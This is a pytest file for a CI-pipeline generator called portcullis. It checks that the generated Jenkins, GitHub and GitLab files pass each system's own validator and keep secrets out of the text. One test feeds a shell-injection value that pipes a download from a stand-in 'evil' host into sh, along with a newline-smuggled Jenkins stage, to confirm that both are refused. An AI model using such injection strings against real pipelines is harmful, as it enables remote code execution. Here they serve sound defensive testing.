"""Every generated CI file is valid for its CI system, checked by that system's own tools:
Debian's groovy parses the Jenkinsfile, actionlint lints the GitHub workflow, and the GitLab CI
JSON schema (vendored in check-jsonschema) validates the GitLab job."""

from __future__ import annotations

import subprocess
import sys
from pathlib import Path

import pytest

from portcullis.pipeline.base import PipelineRequest, generators
from tests.pipeline.tools import actionlint, actionlint_missing, groovy_missing, run_groovy

REQUESTS = {
    "local-blocking": PipelineRequest(image="app:1.0"),
    "local-report-only": PipelineRequest(image="app:1.0", blocking=False),
    "registry-upload": PipelineRequest(image="team/app:1.0", registry="registry.example:5000",
                                       server="https://console.example", policy="policy.yml"),
    "registry-airgapped": PipelineRequest(image="team/app@sha256:" + "a" * 64,
                                          registry="10.0.0.5:5000", insecure_registry=True,
                                          update_db=False),
}


def portcullis(*args: str) -> subprocess.CompletedProcess[str]:
    return subprocess.run([sys.executable, "-m", "portcullis", *args], capture_output=True,
                          text=True, timeout=60, check=False)


def test_every_ci_system_is_found() -> None:
    assert set(generators()) == {"jenkins", "github", "gitlab"}


@pytest.mark.parametrize("name", sorted(REQUESTS))
def test_jenkinsfile_parses_with_groovy(name: str, tmp_path: Path) -> None:
    reason = groovy_missing()
    if reason:
        pytest.skip(reason)
    text = generators()["jenkins"].render(REQUESTS[name])
    jenkinsfile = tmp_path / "Jenkinsfile"
    jenkinsfile.write_text(text)
    check = "new GroovyShell().parse(new File(args[0])); println 'parsed'"
    done = run_groovy("-e", check, jenkinsfile, timeout=120)
    assert done.returncode == 0, done.stderr
    assert done.stdout.strip() == "parsed"


def test_groovy_rejects_a_broken_jenkinsfile(tmp_path: Path) -> None:
    """The syntax check can fail: an unbalanced brace is refused."""
    reason = groovy_missing()
    if reason:
        pytest.skip(reason)
    jenkinsfile = tmp_path / "Jenkinsfile"
    jenkinsfile.write_text(generators()["jenkins"].render(REQUESTS["local-blocking"])[:-3])
    done = run_groovy("-e", "new GroovyShell().parse(new File(args[0]))", jenkinsfile,
                      timeout=120)
    assert done.returncode != 0


@pytest.mark.parametrize("name", sorted(REQUESTS))
def test_github_workflow_passes_actionlint(name: str, tmp_path: Path) -> None:
    reason = actionlint_missing()
    if reason:
        pytest.skip(reason)
    workflow = tmp_path / "portcullis.yml"
    workflow.write_text(generators()["github"].render(REQUESTS[name]))
    assert actionlint(workflow) == []


def test_actionlint_finds_a_broken_workflow(tmp_path: Path) -> None:
    reason = actionlint_missing()
    if reason:
        pytest.skip(reason)
    workflow = tmp_path / "portcullis.yml"
    text = generators()["github"].render(REQUESTS["registry-upload"])
    workflow.write_text(text.replace("secrets.PORTCULLIS_TOKEN", "secret.PORTCULLIS_TOKEN"))
    assert actionlint(workflow)


@pytest.mark.parametrize("name", sorted(REQUESTS))
def test_gitlab_job_matches_the_gitlab_ci_schema(name: str, tmp_path: Path) -> None:
    job = tmp_path / ".gitlab-ci.yml"
    job.write_text(generators()["gitlab"].render(REQUESTS[name]))
    done = subprocess.run([sys.executable, "-m", "check_jsonschema", "--builtin-schema",
                           "vendor.gitlab-ci", str(job)], capture_output=True, text=True,
                          timeout=120, check=False)
    assert done.returncode == 0, done.stdout + done.stderr


def test_secrets_are_referenced_never_inlined() -> None:
    req = REQUESTS["registry-upload"]
    jenkins = generators()["jenkins"].render(req)
    assert "usernamePassword(credentialsId: 'portcullis-registry'" in jenkins
    assert "string(credentialsId: 'portcullis-token', variable: 'PORTCULLIS_TOKEN')" in jenkins
    # the container gets the variables by name only (docker run -e NAME passes the value through)
    assert "-e PORTCULLIS_PASSWORD " in jenkins and "PORTCULLIS_PASSWORD=" not in jenkins
    github = generators()["github"].render(req)
    assert "${{ secrets.PORTCULLIS_TOKEN }}" in github


def test_cli_prints_the_stage_and_refuses_a_registry_scenario_without_registry() -> None:
    done = portcullis("pipeline", "jenkins", "--image", "app:1.0", "--no-blocking")
    assert done.returncode == 0, done.stderr
    assert "scan docker-daemon:app:1.0" in done.stdout
    assert "--fail-on none" in done.stdout
    assert "skipMarkingBuildUnstable: true" in done.stdout
    bad = portcullis("pipeline", "gitlab", "--image", "app:1.0", "--scenario", "registry")
    assert bad.returncode == 2
    assert "needs --registry" in bad.stderr
    assert "Traceback" not in bad.stderr


@pytest.mark.parametrize("field", ["image", "server", "scanner_image", "registry_credentials"])
def test_values_that_could_break_out_of_the_shell_are_refused(field: str) -> None:
    values = {"image": "app:1.0", field: "x'; curl evil | sh #"}
    with pytest.raises(ValueError, match="shell command"):
        PipelineRequest(**values)  # type: ignore[arg-type]
    done = portcullis("pipeline", "jenkins", "--image", "app:1.0\nstage('x')")
    assert done.returncode == 2
    assert "shell command" in done.stderr
